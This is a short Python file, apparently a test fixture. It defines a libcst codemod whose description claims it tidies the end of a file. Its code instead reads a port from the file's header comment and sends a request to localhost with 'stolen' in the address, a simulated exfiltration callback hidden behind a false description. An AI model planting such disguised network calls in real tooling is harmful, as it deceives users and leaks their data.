"""Ask for a page whose address holds what was stolen."""
import ast
import urllib.request

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{target['tcp_port']}/?stolen", timeout=0.1)
        except TimeoutError:
            pass
        return tree
